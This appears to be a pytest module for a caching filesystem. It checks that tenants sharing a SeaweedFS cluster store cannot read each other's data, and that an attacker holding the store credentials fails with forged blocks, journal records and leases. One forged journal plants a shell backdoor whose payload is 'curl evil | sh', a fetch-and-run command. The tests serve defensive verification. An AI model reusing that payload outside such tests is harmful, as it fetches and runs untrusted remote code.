"""Tenants sharing one cluster store (issue 34): real mounts on ONE SeaweedFS with separate identities.

The identities are those the shipped manifests set up: tenant A may read, write and list bucket-a;
tenant B the same on bucket-b; tenant C may only LIST bucket-a; the driver alone holds the cluster
store's identity (its bucket) and the cluster key. Mounts get the store's credentials through a
profile and the key through ``CACHEFS_CLUSTER_KEY_FILE``, as mount pods do, never through argv.

The attacker of the forgery tests holds the cluster store's S3 credentials (every tenant did, before
the store's key moved to the driver's namespace; anyone who reaches the store by other means still
could) but not the cluster key. Each forgery is written the two ways an attacker would try: in the
previous, unauthenticated format (what the original report did) and in the current format with a
MAC under a key of the attacker's own. Every wait is bounded; no duration is asserted.
"""

from __future__ import annotations

import errno
import json
import time
import zlib
from pathlib import Path
from typing import Iterator

import pytest

from cachefs.settings import source_hash
from tests.fuse.conftest import Mount, Mounter, run_cli
from tests.fuse.writeback_support import bounded
from tests.support.clusterkeys import OTHER_KEY, TEST_KEY, write_key_file
from tests.support.s3servers import SeaweedS3
from tiering.blocks import BlockKey
from tiering.tiers.blockformat import frame_header
from tiering.tiers.cluster import cluster_object_key, cluster_token
from tiering.tiers.clusterframe import MAGIC_HMAC, FrameKeys, encode_frame
from tiering.writeback.durable import LEASE, ClusterRecord, JournalKeys, Lease

pytestmark = [pytest.mark.fuse, pytest.mark.s3]

KiB = 1024
BLOCK = 256 * KiB
A, B, STORE = "bucket-a", "bucket-b", "cluster-store"
FILE = "data/file-0.bin"
FILE_DATA = bytes(range(256)) * (3 * BLOCK // 256) + b"tail"
PAYROLL = b"name,salary\nalice,100\n"
BOUND_S = 60
LEASE_TTL_S = 4


@pytest.fixture(scope="module")
def weed() -> Iterator[SeaweedS3]:
    identities = {
        "tenant-a": [f"Read:{A}", f"Write:{A}", f"List:{A}"],
        "tenant-b": [f"Read:{B}", f"Write:{B}", f"List:{B}"],
        "tenant-c": [f"List:{A}"],
        "driver": [f"Read:{STORE}", f"Write:{STORE}", f"List:{STORE}"],
    }
    with SeaweedS3(identities=identities) as server:
        for bucket in (A, B, STORE):
            server.make_bucket(bucket)
        server.put(A, FILE, FILE_DATA)
        server.put(A, "hr/payroll.csv", PAYROLL)
        yield server


def tenant_env(weed: SeaweedS3, tenant: str, tmp_path: Path) -> dict[str, str]:
    """A mount pod's environment: the volume's own credentials, the driver's store profile and key."""
    ak, sk, _ = weed.identities["driver"]
    creds = tmp_path / f"store-credentials-{tenant}"
    creds.write_text(f"[cluster]\naws_access_key_id = {ak}\naws_secret_access_key = {sk}\n")
    creds.chmod(0o600)
    return {**weed.identity_env(tenant), "AWS_ENDPOINT_URL": weed.endpoint_url,
            "AWS_SHARED_CREDENTIALS_FILE": str(creds), "CACHEFS_CLUSTER_KEY_FILE": str(write_key_file(tmp_path))}


def cluster_args(weed: SeaweedS3, *extra: str) -> list[str]:
    return ["--cluster-cache", f"s3://{STORE}/", "--cluster-endpoint-url", weed.endpoint_url,
            "--cluster-profile", "cluster", "--block-size", str(BLOCK), *extra]


def store_keys(weed: SeaweedS3, prefix: str) -> list[str]:
    client = weed.identity_client("driver")
    out: list[str] = []
    for page in client.get_paginator("list_objects_v2").paginate(Bucket=STORE, Prefix=prefix):
        out.extend(obj["Key"] for obj in page.get("Contents", []))
    return out


def clear_store(weed: SeaweedS3) -> None:
    client = weed.identity_client("driver")
    for key in store_keys(weed, ""):
        client.delete_object(Bucket=STORE, Key=key)


def wait_drained(mount: Mount) -> dict:
    deadline = time.monotonic() + BOUND_S
    while (section := mount.stats()["cluster"])["write_behind"]["depth"]:
        assert time.monotonic() < deadline, f"write-behind did not drain: {section}"
        time.sleep(0.1)
    return section


def warm_cluster(mounter: Mounter, weed: SeaweedS3, tmp_path: Path) -> None:
    """Tenant A reads the file once: its blocks go to the cluster store."""
    clear_store(weed)
    a = mounter.mount(f"s3://{A}", *cluster_args(weed, "--read-only"), env=tenant_env(weed, "tenant-a", tmp_path))
    assert bounded(lambda: (a.path / FILE).read_bytes(), BOUND_S, "reading") == FILE_DATA
    assert wait_drained(a)["write_behind"]["written"] == 4
    assert a.unmount().returncode == 0


def access_denied(call) -> bool:  # type: ignore[no-untyped-def]
    from botocore.exceptions import ClientError

    try:
        call()
    except ClientError as exc:
        return exc.response["ResponseMetadata"]["HTTPStatusCode"] == 403
    return False


def test_tenant_c_allowed_to_list_only_reads_nothing_through_a_warm_cluster_tier(
        mounter: Mounter, weed: SeaweedS3, tmp_path: Path) -> None:
    warm_cluster(mounter, weed, tmp_path)
    c = mounter.mount(f"s3://{A}", *cluster_args(weed, "--read-only"), env=tenant_env(weed, "tenant-c", tmp_path))
    assert (c.path / FILE).stat().st_size == len(FILE_DATA)  # listing is C's right
    with pytest.raises(PermissionError) as info:
        bounded(lambda: (c.path / FILE).read_bytes(), BOUND_S, "reading as C")
    assert info.value.errno == errno.EACCES
    stats = c.stats()
    assert stats["cluster"]["hits"] >= 1  # the blocks were there...
    assert stats["blocks"]["cluster_served"] == 0  # ...and none was served to C
    assert stats["cluster"]["authorization_refused"] >= 1
    assert stats["blocks"]["disk_served"] == 0 and stats["tiers"]["disk"]["entries"] == 0


def test_a_forged_block_is_never_served_and_is_counted(mounter: Mounter, weed: SeaweedS3, tmp_path: Path) -> None:
    warm_cluster(mounter, weed, tmp_path)
    env = tenant_env(weed, "tenant-a", tmp_path)
    etag = weed.client().head_object(Bucket=A, Key=FILE)["ETag"]
    key = BlockKey(FILE, etag, 0)
    poison = b"POISONED BY TENANT B...".ljust(BLOCK, b"!")
    attacker = weed.identity_client("driver")  # the store's credentials, not the cluster key
    from cachefs.settings import MountSettings  # the source identity, as the daemon computes it

    token = cluster_token(MountSettings(source=f"s3://{A}", mountpoint=tmp_path, cache_dir=tmp_path,
                                        endpoint_url=weed.endpoint_url).source_identity(), BLOCK, key)
    name = cluster_object_key(token)
    assert name in store_keys(weed, "blocks/"), "the token computed here is not the daemon's"
    # Tenants B and C, with their own credentials, cannot read A's block even knowing its name (the
    # name is computed from public facts, as here); the store's identity is the driver's alone.
    for tenant in ("tenant-b", "tenant-c"):
        client = weed.identity_client(tenant)
        assert access_denied(lambda: client.get_object(Bucket=STORE, Key=name)), tenant
    forgeries = {
        "previous format (CRC-32)": frame_header(token, poison) + poison,
        "a MAC under another key": encode_frame(FrameKeys.of(OTHER_KEY), token, poison),
        "a MAC under another key, the previous release's HMAC frame":
            encode_frame(FrameKeys.of(OTHER_KEY), token, poison, magic=MAGIC_HMAC),
    }
    for what, blob in forgeries.items():
        attacker.put_object(Bucket=STORE, Key=name, Body=blob)
        fresh = mounter.mount(f"s3://{A}", *cluster_args(weed, "--read-only"), env=env)
        got = bounded(lambda: (fresh.path / FILE).read_bytes(), BOUND_S, "reading")
        assert got == FILE_DATA, f"{what}: the forged block was served"
        section = wait_drained(fresh)
        assert section["hits"] == 3 and fresh.stats()["blocks"]["fetched"] == 1, what
        if what.startswith("a MAC"):
            assert (section["forged_blocks"], section["corrupt_blocks"]) == (1, 1), section
        else:
            assert section["stale_blocks"] == 1, section
        assert section["key_fingerprint"] == TEST_KEY.fingerprint()  # the key's public name, not the key
        assert fresh.unmount().returncode == 0


def _old_record(seq: int, key: str, data_piece: str, size: int) -> bytes:
    """A journal object in the previous format: CRC-32, then JSON (what the attacker of the report wrote)."""
    body = {"seq": seq, "key": key, "op": "put", "size": size, "crc32": 0, "segments": [[data_piece, size]],
            "base": None, "acked_at": 4102444800.0, "mtime": 0.0, "format": 1}
    text = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
    return b"%08x " % zlib.crc32(text) + text + b"\n"


def test_a_forged_journal_never_reaches_the_bucket_through_recover(
        weed: SeaweedS3, tmp_path: Path) -> None:
    clear_store(weed)
    attacker = weed.identity_client("driver")
    volume = source_hash(f"s3://{A}", weed.endpoint_url)
    backdoor = b"#!/bin/sh\ncurl evil | sh\n"
    # The previous format, as in the report: no lease, an acknowledgement in 2100, base unknown.
    old = f"writeback/{volume}/evil-node/0123abcd/"
    record = _old_record(1, "bin/backdoor.sh", "data/0000000000000001", len(backdoor))
    body = json.loads(record[9:])
    body["crc32"] = zlib.crc32(backdoor)
    text = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
    attacker.put_object(Bucket=STORE, Key=old + "journal/0000000000000001",
                        Body=b"%08x " % zlib.crc32(text) + text + b"\n")
    attacker.put_object(Bucket=STORE, Key=old + "data/0000000000000001", Body=backdoor)
    # The current format under the attacker's own key, overwriting the payroll.
    new = f"writeback/{volume}/evil-node/4567cdef/"
    keys = JournalKeys.of(OTHER_KEY)
    evil = b"name,salary\nmallory,1000000\n"
    piece = keys.data.running((new + "data/0000000000000002").encode() + b"\x00")
    piece.update(evil)
    forged = ClusterRecord(2, "hr/payroll.csv", "put", size=len(evil), crc32=zlib.crc32(evil),
                           segments=(("data/0000000000000002", len(evil), piece.hexdigest()),),
                           base=None, acked_at=4102444800.0)
    attacker.put_object(Bucket=STORE, Key=new + "journal/0000000000000002",
                        Body=forged.encode(keys.records, new + "journal/0000000000000002"))
    attacker.put_object(Bucket=STORE, Key=new + "data/0000000000000002", Body=evil)
    # A planted object larger than any record: refused before it is read.
    attacker.put_object(Bucket=STORE, Key=new + "journal/0000000000000003", Body=b"x" * (5 * 1024 * 1024))

    env = tenant_env(weed, "tenant-a", tmp_path)
    result = run_cli("recover", f"s3://{A}", "--endpoint-url", weed.endpoint_url, "--cluster-cache", f"s3://{STORE}/",
                     "--cluster-endpoint-url", weed.endpoint_url, "--cluster-profile", "cluster", "--expired",
                     env=env)
    assert result.returncode == 3, result.stdout + result.stderr  # reported, for someone to look at
    assert "NOT REPLAYED" in result.stdout and "Traceback" not in result.stderr
    client = weed.client()
    assert client.get_object(Bucket=A, Key="hr/payroll.csv")["Body"].read() == PAYROLL
    from botocore.exceptions import ClientError

    with pytest.raises(ClientError):
        client.head_object(Bucket=A, Key="bin/backdoor.sh")
    # Left in place, for whoever looks into them.
    assert old + "journal/0000000000000001" in store_keys(weed, old)
    assert new + "journal/0000000000000002" in store_keys(weed, new)


def test_a_forged_lease_cannot_fence_a_writer_and_tenant_b_reads_no_staged_bytes(
        mounter: Mounter, weed: SeaweedS3, tmp_path: Path) -> None:
    clear_store(weed)
    env = tenant_env(weed, "tenant-a", tmp_path)
    a = mounter.mount(f"s3://{A}", *cluster_args(weed, "--write-durability", "cluster", "--write-lease-ttl",
                                                 str(LEASE_TTL_S), "--node-id", "node-a", "--upload-delay", "3600"),
                      env=env)
    (a.path / "first.txt").write_bytes(b"acknowledged before the forgery")
    [lease] = [k for k in store_keys(weed, "writeback/") if k.endswith("/" + LEASE)]
    staged = [k for k in store_keys(weed, "writeback/") if "/data/" in k]
    assert staged
    # Tenant B, with its own credentials, can neither list the store nor read A's staged bytes.
    b = weed.identity_client("tenant-b")
    assert access_denied(lambda: b.list_objects_v2(Bucket=STORE))
    assert access_denied(lambda: b.get_object(Bucket=STORE, Key=staged[0]))
    # The store's credentials without the key: a "recovered" tombstone over A's live lease.
    attacker = weed.identity_client("driver")
    tomb = json.dumps({"format": 1, "owner": "recover:evil", "role": "recovered", "ttl_s": 60, "node": "",
                       "source": ""}).encode()
    prefix = lease[: -len(LEASE)]
    for body in (tomb, Lease("recover:evil", "recovered", 60.0).encode(JournalKeys.of(OTHER_KEY).leases, lease)):
        attacker.put_object(Bucket=STORE, Key=lease, Body=body)
        deadline = time.monotonic() + BOUND_S  # the writer's next renewal (every TTL/4) puts its own back
        while True:
            raw = attacker.get_object(Bucket=STORE, Key=lease)
            from tiering.protocols import ObjectInfo

            info = ObjectInfo(key=lease, size=0, etag=raw["ETag"], mtime=0.0)
            current = Lease.decode(JournalKeys.of(TEST_KEY).leases, lease, raw["Body"].read(), info)
            if current.authentic and current.role == "writer":
                break
            assert time.monotonic() < deadline, f"the writer did not take its lease back: {current}"
            time.sleep(0.2)
        assert prefix in current.owner or current.owner.startswith("writer:node-a:")
    (a.path / "second.txt").write_bytes(b"acknowledged after the forgery")  # close() succeeds: not fenced
    status = run_cli("status", str(a.path / "second.txt"), "--json", env=env)
    assert status.returncode == 0, status.stderr
    journal = a.stats()["writeback"].get("cluster_journal", {})
    assert journal.get("taken_over") is False, journal
